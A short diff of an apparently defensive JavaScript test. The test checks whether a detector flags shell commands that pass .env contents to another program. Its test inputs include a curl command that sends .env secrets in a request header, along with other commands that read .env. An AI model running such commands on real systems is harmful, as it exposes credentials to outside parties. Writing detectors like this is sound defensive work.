@@ -132,7 +132,7 @@ test('marks output that goes to another program', () => {
   assert.equal(piped('curl -H "X: $(cat .env)" x'), true);
   assert.equal(piped('X=$(cat .env)'), true);
   assert.equal(piped('echo "$(cat .env)"'), false);
-  assert.equal(piped('diff <(cat .env) x'), true);
+  assert.equal(piped('wc -l <(cat .env)'), true);
   assert.equal(piped('(cat .env) | wc'), true);
 });
 
